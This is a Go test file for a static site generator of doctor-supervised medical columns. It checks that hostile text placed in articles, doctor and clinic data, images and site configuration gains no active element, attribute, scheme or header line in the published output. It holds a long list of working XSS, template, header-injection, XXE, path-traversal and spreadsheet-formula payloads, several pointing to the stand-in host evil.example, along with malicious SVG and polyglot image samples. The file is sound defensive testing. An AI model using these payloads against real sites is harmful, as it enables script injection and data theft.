package build_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"kanshu/internal/kanshu"
)

// payloads are texts that would do something if a page, a feed or a list took them for more than a text.
func payloads() []string {
	list := []string{
		"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>alert(1)//", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "-->\n<script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "]]>", "<!DOCTYPE html [<!ENTITY x \"y\">]>", "&x;<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<?php echo 1 ?>", "<?xml version=\"1.0\"?>", "<% alert(1) %>", "{{ .Site }}", "{{define \"x\"}}{{end}}", "{% include x %}", "${alert(1)}", "`${1}`", "#{7*7}",
		"<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img/src/onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<math href=\"javascript:alert(1)\">x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"data:text/html,x\"></object>", "<embed src=\"//evil.example\">", "<applet code=x>", "<base href=\"//evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"\">", "<link rel=stylesheet href=//evil.example>", "<link rel=import href=//evil.example>", "<style>@import '//evil.example';</style>", "<style>*{background:url(//evil.example)}</style>", "<form action=\"//evil.example\"><input name=p><button>x</button></form>", "<button formaction=\"javascript:alert(1)\">x</button>", "<input autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select onchange=alert(1)><option>x</select>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src onloadstart=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=# onclick=alert(1)>x</a>", "<a style=\"x:expression(alert(1))\">x</a>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<p id=x onmouseover=alert(1)>x", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<portal src=//evil.example>", "<dialog open onclose=alert(1)>x</dialog>", "<slot onslotchange=alert(1)>", "<x onclick=alert(1) tabindex=0>x</x>", "<custom-element>x</custom-element>", "<frameset onload=alert(1)>", "<bgsound src=\"javascript:alert(1)\">", "<xml id=x>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>x", "<noembed><script>alert(1)</script></noembed>", "<title onpropertychange=alert(1)></title>",
		"\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "` onclick=alert(1)", "\" style=\"position:fixed", "\\\" onclick=\\\"alert(1)", "&quot; onclick=&quot;alert(1)", "&#34; onclick=&#34;alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u0000script>alert(1)</script>", "<scr\u200bipt>alert(1)</script>", "＜script＞alert(1)＜/script＞", "\u2028alert(1)\u2029", "\u202e<script>alert(1)</script>", "\ufeff<script>", "\ufffe\uffff", "\u000b\u000c\u001b[31m", "\u0085<script>", "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>", "<a\thref=\"java\tscript:alert(1)\">x</a>", "<img src=\"x`<script>alert(1)</script>\"`>",
		"{onclick=alert(1)}", "# x {onclick=alert(1) #id}", "{: onclick=alert(1)}", "[x]{style=\"x\"}", "```js onclick=alert(1)\nx\n```", "~~~html\n<script>alert(1)</script>\n~~~", "```\"><script>alert(1)</script>\nx\n```", "    <script>alert(1)</script>", "| <script> | \" onclick=\" |\n| --- | --- |\n| <img src=x onerror=alert(1)> | x |", "[^x]\n\n[^x]: <script>alert(1)</script>", "{<script>|<img onerror=alert(1)>}", "{\"onclick=|\"onclick=}", ":::notice <script>alert(1)</script>\nx\n:::", ":::\"onclick=\"alert(1)\nx\n:::", "[@\"><script>alert(1)</script>]", "[@x onclick=y]", "<http://x\" onclick=\"alert(1)>", "<x@y\" onclick=\"alert(1).example>", "http://x.example/\"onclick=\"alert(1)", "https://x.example/'onclick='", "![x](x.png \"\\\" onerror=\\\"alert(1)\")", "![\" onerror=\"alert(1)](x.png)", "[x](/columns/ \"' onclick='\")", "[x](</columns/\" onclick=\"alert(1)>)", "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: <javascript:alert(1)> 'x'", "term\n: <script>alert(1)</script>", "**<script>alert(1)</script>**", "~~<script>~~", "`<script>alert(1)</script>`", "<script>\n\nalert(1)\n\n</script>", "<div>\n\n[x](javascript:alert(1))\n\n</div>",
		"x\nX-Injected: 1", "x\r\nX-Injected: 1", "x\n/*\n  X-Injected: 1", "x\n  X-Injected: 1", "x%0d%0aX-Injected:%201", "x\u0085X-Injected: 1", "x\u2028X-Injected: 1", "/x /evil 301", "/x\n/* https://evil.example/ 200!", "x\tX-Injected: 1", "x\n\n## Columns\n\n- [x](https://evil.example/)", "](https://evil.example/) [", "x](javascript:alert(1))", "x\n# robots\nDisallow: /", "User-agent: *\nDisallow: /", "</loc><loc>https://evil.example/</loc>", "</urlset>", "</item><item><link>https://evil.example/</link></item>", "</channel></rss>", "\"},{\"@type\":\"Physician\",\"name\":\"x", "\",\"@id\":\"https://evil.example/", "\\", "\\\"", "\"", "'", "&", "&amp;", "%", "%s%n", "@import url(//evil.example)", "red;}*{background:url(//evil.example)", "#fff}</style><script>alert(1)</script>", "expression(alert(1))", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "https:///evil.example", "http://user:pass@evil.example/", "tel:+81300000000;ext=1\" onclick=\"", "mailto:x@y.example?subject=\r\nBcc:z@y.example",
	}
	for _, scheme := range []string{"javascript", "vbscript", "data", "feed:javascript", "blob", "view-source", "jar", "file", "livescript", "mocha", "about", "filesystem", "ms-its", "intent", "chrome", "ws", "ftp"} {
		list = append(list, scheme+":alert(1)")
	}
	for _, form := range []string{"JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\njavascript:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript%3Aalert(1)", "%6Aavascript:alert(1)", "javascript\\:alert(1)", "javascript://x%0Aalert(1)", "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "vbscript:msgbox(1)", "&Tab;javascript:alert(1)", "java&NewLine;script:alert(1)", "javascript&lpar;1&rpar;", "ｊavascript:alert(1)", "java\u00adscript:alert(1)", "java\u200bscript:alert(1)", "\ufeffjavascript:alert(1)", "url(javascript:alert(1))"} {
		list = append(list, form)
	}
	return list
}

// quoted writes a text as a YAML value.
func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return strings.NewReplacer("\u007f", "\\u007f", "\u0085", "\\u0085", "\ufeff", "\\ufeff", "\ufffe", "\\ufffe", "\uffff", "\\uffff").Replace(string(b))
}

// hostileColumn is a column in every field of which, and in every place of its body, a text stands.
func hostileColumn(text, doctor string) string {
	q := quoted(text)
	var b strings.Builder
	b.WriteString("---\ntitle: " + quoted("題 "+text) + "\nsupervisor: " + doctor + "\nreviewed: 2026-10-01\nreview_due: 2027-09-30\ndate: 2026-10-01\n")
	for _, key := range []string{"subtitle", "description", "reading", "category", "image"} {
		b.WriteString(key + ": " + q + "\n")
	}
	b.WriteString("author: [" + q + ", {name: " + q + ", url: " + q + ", image: " + q + "}]\n")
	b.WriteString("tags: [" + q + ", 共通]\naliases: [" + quoted("/"+text+"/") + "]\npoints: [" + q + "]\ncoi: [" + q + "]\nsponsor: {name: " + q + ", label: " + q + ", url: " + q + "}\n")
	b.WriteString("references:\n  - " + q + "\n  - {title: " + q + ", authors: " + q + ", publisher: " + q + ", url: " + q + ", doi: " + q + ", pmid: " + q + ", isbn: " + q + ", id: r}\n")
	b.WriteString("faq:\n  - {q: " + q + ", a: " + q + "}\n  - {q: x, a: " + quoted("[x]("+text+") ![x]("+text+") <"+text+">") + "}\n")
	b.WriteString("corrections: [{on: 2026-11-01, kind: " + q + ", text: " + q + ", approved_by: " + q + "}]\nevidence: [{claim: " + q + ", certainty: B, graded_by: " + q + "}]\n")
	b.WriteString("treatments:\n  - name: " + q + "\n    funding: 自費\n    content: " + q + "\n    duration: " + q + "\n    visits: " + q + "\n    risks: [" + q + "]\n    price: {text: " + q + ", per: " + q + ", extra: " + q + "}\n    approval: 未承認\n    unapproved: {statement: " + q + ", route: " + q + ", domestic_alternative: " + q + ", overseas_safety: " + q + ", relief_system: " + q + "}\n    regenerative: {class: " + q + ", number: " + q + ", committee: " + q + ", note: " + q + "}\n")
	b.WriteString("ad: {is: true, reason: " + q + "}\n---\n\n本文。[@r]\n\n")
	line := strings.NewReplacer("\n", " ", "\r", " ", "\x00", " ").Replace(text)
	for _, form := range []string{"%s\n", "段落 %s の中\n", "## %s\n", "- %s\n", "> %s\n", "[x](%s)\n", "[x](<%s>)\n", "![x](%s)\n", "![%s](x.png)\n", "<%s>\n", "[x](/columns/ \"%s\")\n", "[%s](/columns/)\n", "[y]\n\n[y]: %s\n", "[z]\n\n[z]: /columns/ '%s'\n", "| a |\n| --- |\n| %s |\n", "```%s\nx\n```\n", ":::notice %s\nx\n:::\n", "{漢字|%s}\n", "注[^n]\n\n[^n]: %s\n", "**%s**\n", "`%s`\n"} {
		b.WriteString(strings.ReplaceAll(form, "%s", line) + "\n")
	}
	b.WriteString("\n" + strings.ReplaceAll(text, "\x00", "") + "\n")
	return b.String()
}

// hostileSite is a site whose columns, doctors and clinics bear the texts.
func hostileSite(t *testing.T, texts []string) files {
	t.Helper()
	site := tiny(t)
	for i, text := range texts {
		q, id := quoted(text), fmt.Sprintf("p%03d", i)
		site["columns/"+id+"/index.md"], site["columns/"+id+"/x.png"] = hostileColumn(text, id), smallPNG
		site["data/doctors/"+id+".yaml"] = "name: " + quoted("医師 "+text) + "\nclinic: " + id + "\nkana: " + q + "\ntitle: " + q + "\nspecialties: [" + q + "]\ncredentials: [{name: " + q + ", issuer: " + q + "}]\nsocieties: [" + q + "]\nbio: " + q + "\nimage: " + q + "\nurl: " + q + "\nsame_as: [" + q + "]\n"
		site["data/clinics/"+id+".yaml"] = "name: " + quoted("医院 "+text) + "\ngroup: " + q + "\naddress: " + q + "\ntel: " + q + "\nfax: " + q + "\nhours: " + q + "\nclosed: " + q + "\naccess: [" + q + "]\nurl: " + q + "\nbooking_url: " + q + "\nemail: " + q + "\nlanguages: [" + q + "]\nimage: " + q + "\n"
	}
	return site
}

// TestNothingActiveFromContent publishes all texts at once, in every field, and wants no element, attribute
// or scheme that a site of harmless twins does not have.
func TestNothingActiveFromContent(t *testing.T) {
	t.Parallel()
	texts := payloads()
	if len(texts) < 200 {
		t.Fatalf("%d payloads, want at least 200", len(texts))
	}
	site := hostileSite(t, texts)
	checkable := site.fsys()
	if verdicts, approved := judged(t, checkable, today), 0; true {
		for _, v := range verdicts {
			if v.Outcome == kanshu.Approved {
				approved++
			}
		}
		if approved*10 < len(verdicts)*9 {
			t.Errorf("only %d of %d columns are published, so little is tried", approved, len(verdicts))
		}
	}
	_, hostile := fresh(t, site.fsys(), on(today))
	_, twin := fresh(t, hostileSite(t, []string{"無害な文一", "無害な文二", "無害な文三"}).fsys(), on(today))
	have, want := inventory(t, hostile), inventory(t, twin)
	for _, s := range []string{"scheme https", "scheme http", "scheme mailto", "scheme tel", "element hr", "element del", "element pre", "element ruby", "element rt", "element rp", "attribute title", "attribute start", "element dl", "element dt", "element dd", "element h2", "element h3", "element h4", "element ol", "element sup", "element br", "element input", "element small", "element em", "element figcaption", "attribute loading", "json ld/@graph/citation/sameAs", "json ld/@graph/sponsor/url"} {
		want[s] = "allowed: what Markdown itself can write"
	}
	for _, item := range slices.Sorted(maps.Keys(have)) {
		if _, ok := want[item]; !ok {
			t.Errorf("%s gains %s", have[item], item)
		}
	}
	linesOf(t, hostile, twin)
}

// inventory lists what the files of a tree could do: elements, attributes, schemes and structure, each with
// the first file that has it.
func inventory(t *testing.T, tree files) map[string]string {
	t.Helper()
	all := map[string]string{}
	for _, name := range slices.Sorted(maps.Keys(tree)) {
		note := func(item string) {
			if all[item] == "" {
				all[item] = name
			}
		}
		switch {
		case strings.HasSuffix(name, ".html"):
			pageInventory(t, name, tree[name], note)
		case strings.HasSuffix(name, ".xml"):
			xmlInventory(t, name, tree[name], note)
		case strings.HasSuffix(name, ".json"), strings.HasSuffix(name, ".webmanifest"):
			var v any
			if err := json.Unmarshal([]byte(tree[name]), &v); err != nil {
				t.Errorf("%s: %v", name, err)
			}
			if strings.HasPrefix(name, "search/") || name == "build.json" {
				continue
			}
			jsonInventory(t, name, "", v, note)
		case strings.HasSuffix(name, ".css"), strings.HasSuffix(name, ".js"), strings.HasSuffix(name, ".svg"):
			note("asset " + name)
		}
	}
	return all
}

// pageInventory notes what a page, or a piece of one, could do.
func pageInventory(t *testing.T, name, page string, note func(string)) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.CommentNode:
			note("a comment")
		case html.ElementNode:
			if n.Namespace != "" {
				note("element " + n.Namespace + ":" + n.Data)
			}
			note("element " + n.Data)
			elementInventory(t, name, n, note)
		}
	}
}

func elementInventory(t *testing.T, name string, n *html.Node, note func(string)) {
	t.Helper()
	signature := n.Data
	for _, a := range n.Attr {
		note("attribute " + a.Key)
		if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" {
			t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
		}
		switch a.Key {
		case "href", "src", "action", "cite", "poster", "data", "formaction", "background":
			note("scheme " + schemeOf(a.Val))
			if strings.HasPrefix(a.Val, "//") || strings.HasPrefix(a.Val, "/\\") || strings.HasPrefix(a.Val, "\\") {
				t.Errorf("%s: <%s %s=%q> leads to another host", name, n.Data, a.Key, a.Val)
			}
		case "srcset":
			for part := range strings.SplitSeq(a.Val, ",") {
				note("scheme " + schemeOf(strings.TrimSpace(part)))
			}
		case "rel", "http-equiv", "type":
			signature += " " + a.Key + "=" + a.Val
		}
	}
	switch n.Data {
	case "script", "style", "link", "meta", "base", "form", "iframe", "object", "embed", "input", "button":
		note("active " + signature)
	}
	if n.Data == "script" && strings.Contains(signature, "ld+json") && n.FirstChild != nil {
		var v any
		if err := json.Unmarshal([]byte(n.FirstChild.Data), &v); err != nil {
			t.Errorf("%s: structured data: %v", name, err)
			return
		}
		if strings.ContainsAny(n.FirstChild.Data, "<>\u2028\u2029") {
			t.Errorf("%s: structured data holds marks of HTML", name)
		}
		jsonInventory(t, name, "ld", v, note)
	} else if n.Data == "script" && n.FirstChild != nil {
		note("inline script " + n.FirstChild.Data)
	}
}

// schemeOf returns the scheme of an address as a browser reads it.
func schemeOf(address string) string {
	address = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(strings.TrimLeft(address, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x1b\x1c\x1d\x1e\x1f \t\n\r"))
	i := strings.IndexAny(address, ":/?#")
	if i < 0 || address[i] != ':' {
		return "none"
	}
	return strings.ToLower(address[:i])
}

// xmlInventory notes the elements and attributes of a feed, and what its HTML could do.
func xmlInventory(t *testing.T, name, text string, note func(string)) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	var path []string
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		switch n := token.(type) {
		case xml.StartElement:
			path = append(path, n.Name.Local)
			note("xml " + strings.Join(path, "/"))
			for _, a := range n.Attr {
				note("xml " + n.Name.Local + "@" + a.Name.Local)
				if a.Name.Local == "href" || a.Name.Local == "url" {
					note("scheme " + schemeOf(a.Value))
				}
			}
		case xml.EndElement:
			path = path[:len(path)-1]
		case xml.CharData:
			switch strings.Join(path[max(0, len(path)-1):], "") {
			case "encoded", "content", "description": // Atom's summary and subtitle are plain text
				pageInventory(t, name, string(n), note)
			case "link", "loc", "id", "guid", "uri":
				note("scheme " + schemeOf(string(n)))
			}
		case xml.Directive:
			note("xml directive")
		}
	}
}

// jsonInventory notes the keys of a document, the schemes of its addresses, and what its HTML could do.
func jsonInventory(t *testing.T, name, path string, v any, note func(string)) {
	t.Helper()
	switch v := v.(type) {
	case map[string]any:
		for key, x := range v {
			note("json " + path + "/" + key)
			if s, ok := x.(string); ok {
				switch key {
				case "url", "@id", "id", "home_page_url", "feed_url", "sameAs", "image", "logo", "avatar", "item":
					note("scheme " + schemeOf(s))
				case "content_html":
					pageInventory(t, name, s, note)
				case "text":
					if strings.HasSuffix(path, "acceptedAnswer") { // the only text of structured data that is HTML
						pageInventory(t, name, s, note)
					}
				case "@type":
					note("json type " + s)
				}
			}
			jsonInventory(t, name, path+"/"+key, x, note)
		}
	case []any:
		for _, x := range v {
			jsonInventory(t, name, path, x, note)
		}
	}
}

// linesOf wants the files made of lines to hold no line that content wrote.
func linesOf(t *testing.T, hostile, twin files) {
	t.Helper()
	headers := map[string]bool{}
	for line := range strings.Lines(twin["_headers"]) {
		headers[line] = true
	}
	for line := range strings.Lines(hostile["_headers"]) {
		if !headers[line] {
			t.Errorf("_headers gains %q", line)
		}
	}
	if hostile["robots.txt"] != twin["robots.txt"] {
		t.Errorf("robots.txt gains lines:\n%s", hostile["robots.txt"])
	}
	for line := range strings.Lines(hostile["_redirects"]) {
		f := strings.Fields(line)
		if len(f) != 3 || !strings.HasPrefix(f[0], "/") || !strings.HasPrefix(f[1], "/columns/") || f[2] != "301" {
			t.Errorf("_redirects gains %q", line)
		}
	}
	for line := range strings.Lines(hostile["llms.txt"]) {
		line = strings.TrimSuffix(line, "\n")
		switch {
		case line == "", strings.HasPrefix(line, "# "), strings.HasPrefix(line, "> "), strings.HasPrefix(line, "医師が監修した"):
		case strings.HasPrefix(line, "## "):
			if !strings.Contains(twin["llms.txt"], line) {
				t.Errorf("llms.txt gains %q", line)
			}
		case strings.HasPrefix(line, "- ["):
			if i := strings.Index(line, "](https://column.example.jp/"); i < 0 || strings.Contains(strings.ReplaceAll(line[:i], `\]`, ""), "]") {
				t.Errorf("llms.txt links elsewhere: %q", line)
			}
		default:
			t.Errorf("llms.txt gains %q", line)
		}
	}
}

// TestNothingActiveFromConfiguration writes texts into every field of kanshu.yaml. What cannot be used ends
// with an error that names the line; what can, gains nothing.
func TestNothingActiveFromConfiguration(t *testing.T) {
	t.Parallel()
	config := func(text, url, colour string) string {
		q, u, c := quoted(text), quoted(url), quoted(colour)
		return "title: " + quoted("題 "+text) + "\nbase_url: https://column.example.jp\ndescription: " + q + "\nnotice: " + q + "\npublisher: {name: " + q + ", url: " + u + ", email: " + q + ", logo: " + q + "}\n" +
			"menu: [{name: " + q + ", url: " + u + "}]\ntheme: {accent: " + c + ", logo: " + q + ", mark: " + q + ", lead: " + q + ", lead_text: " + q + ", footer: " + q + ", copyright: " + q + "}\n"
	}
	_, twin := fresh(t, tiny(t).with(files{"kanshu.yaml": config("無害な文", "https://x.example/", "#225588")}).fsys(), on(today))
	want := inventory(t, twin)
	_, logo := fresh(t, tiny(t).with(files{"kanshu.yaml": config("https://x.example/a.png", "/", "#225588")}).fsys(), on(today))
	maps.Copy(want, inventory(t, logo))
	for i, text := range payloads() {
		if i%19 != 0 {
			continue
		}
		_, tree := fresh(t, tiny(t).with(files{"kanshu.yaml": config(text, text, "#225588")}).fsys(), on(today))
		for item, name := range inventory(t, tree) {
			if _, ok := want[item]; !ok && !strings.HasPrefix(item, "asset ") {
				t.Errorf("%q: %s gains %s", text, name, item)
			}
		}
		linesOf(t, tree, twin.with(files{"llms.txt": "## コラム ## 分類 ## 監修医 ## クリニック ## Optional"}))
	}
	for _, text := range []string{"red", "#12", "#1234567", "#gggggg", "url(//evil.example)", "#fff}*{x:y", "#225588;}", "expression(alert(1))", "#22558\u200b8", "＃２２５５８８", "var(--x)", "rgb(1,2,3)", "#225588\n"} {
		dir := filepath.Join(quickDir(t), "public")
		if _, err := attempt(t, tiny(t).with(files{"kanshu.yaml": config("x", "/", text)}).fsys(), dir, on(today)); err == nil {
			css := ""
			for name, text := range readTree(t, dir) {
				if strings.HasSuffix(name, ".css") {
					css += text
				}
			}
			if strings.Contains(css, "evil") || strings.Contains(css, "expression") || strings.Contains(css, "*{x:y") {
				t.Errorf("the colour %q stands in the style sheet", text)
			}
		}
	}
}

// TestPicturesAreKnownByTheirBytes publishes files that call themselves pictures. What is none by its bytes
// is not published, and of what is one nothing but the picture.
func TestPicturesAreKnownByTheirBytes(t *testing.T) {
	t.Parallel()
	const script = "<script>alert('qzvexw')</script>"
	svg := func(inside string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" qzvexw="">` + inside + `</svg>`
	}
	bad := map[string]string{
		"html.png": "<!doctype html>" + script, "html.jpg": "<html>" + script, "js.gif": "GIF89a=1;alert('qzvexw')", "php.webp": "<?php qzvexw ?>", "text.avif": "qzvexw", "empty.png": "", "cut.png": smallPNG[:20] + "qzvexw",
		"script.svg": svg(script), "handler.svg": svg(`<rect onclick="alert(1)"/>`), "load.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="qzvexw()"/>`, "foreign.svg": svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="x"/></foreignObject>`), "use.svg": svg(`<use href="https://evil.example/x.svg#y"/>`),
		"link.svg": svg(`<a href="javascript:alert(1)"><text>x</text></a>`), "style.svg": svg(`<style>@import url(//evil.example);</style>`), "entity.svg": `<!DOCTYPE svg [<!ENTITY qzvexw SYSTEM "file:///etc/passwd">]>` + svg("&qzvexw;"), "sheet.svg": `<?xml-stylesheet href="//evil.example"?>` + svg(""), "animate.svg": svg(`<animate attributeName="href" to="javascript:alert(1)"/>`), "set.svg": svg(`<set attributeName="onclick" to="alert(1)"/>`), "image.svg": svg(`<image href="//evil.example/x.png"/>`), "data.svg": svg(`<image href="data:text/html,` + "qzvexw" + `"/>`), "css.svg": svg(`<rect style="background:url(//evil.example)"/>`), "utf7.svg": `<?xml version="1.0" encoding="UTF-7"?>` + svg("+ADw-script+AD4-"),
		"html.svg": "<!doctype html>" + script, "upper.svg": svg("<SCRIPT>qzvexw</SCRIPT>"), "cdata.svg": svg("<style><![CDATA[*{background:url(//evil.example)}]]></style>"), "prefix.svg": `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>qzvexw</x:script></x:svg>`, "page.html": script, "run.js": "qzvexw", "run.php": "<?php qzvexw", "run.png.html": script, "style.css": "qzvexw{}",
	}
	site := tiny(t)
	page := "---\ntitle: 図\nsupervisor: hinata\nreviewed: 2026-10-01\nreview_due: 2027-09-30\nimage: html.png\n---\n本文。\n\n"
	for name, text := range bad {
		site["columns/pictures/"+name], site["assets/images/"+name] = text, text
		page += "![図](" + name + ")\n\n![図](/assets/images/" + name + ")\n\n"
	}
	chunk := "\x00\x00\x00\x15tEXtComment\x00<script>qzvexw\x00\x00\x00\x00" // a text within a real picture
	site["columns/pictures/real.png"] = smallPNG[:33] + chunk + smallPNG[33:]
	site["columns/pictures/index.md"] = page + "![図](real.png)\n"
	_, tree := fresh(t, site.fsys(), on(today))
	for name, text := range tree {
		if strings.HasPrefix(name, "assets/pictures/") {
			for _, mark := range []string{"script", "qzvexw", "evil", "onclick", "onload", "ENTITY", "javascript"} {
				if strings.Contains(strings.ToLower(text), strings.ToLower(mark)) {
					t.Errorf("%s holds %s", name, mark)
				}
			}
		}
		if ext := filepath.Ext(name); ext == ".php" || ext == ".js" && !strings.HasPrefix(name, "assets/") || strings.HasSuffix(name, "run.html") {
			t.Errorf("%s is published", name)
		}
	}
	silent(t, "pictures", tree.without("columns/pictures/", "build.json", "_"), "qzvexw")
}
